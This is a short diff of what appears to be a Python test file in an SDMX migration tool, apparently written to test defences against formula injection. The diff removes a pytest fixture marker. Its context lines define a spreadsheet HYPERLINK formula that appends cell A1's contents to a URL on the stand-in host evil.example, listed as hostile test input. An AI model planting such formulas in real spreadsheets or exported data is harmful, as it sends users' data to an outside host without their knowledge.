@@ -25,7 +25,6 @@ from sdmxmig.sdmx.model.artefacts import Text
 from sdmxmig.sdmx.model.findings import Finding
 from sdmxmig.sdmx.words import read_words, to_translate
 
-pytestmark = pytest.mark.usefixtures("loaded_once")
 LINK = '=HYPERLINK("https://evil.example/?x="&A1,"Total")'
 HOSTILE = [
     LINK,
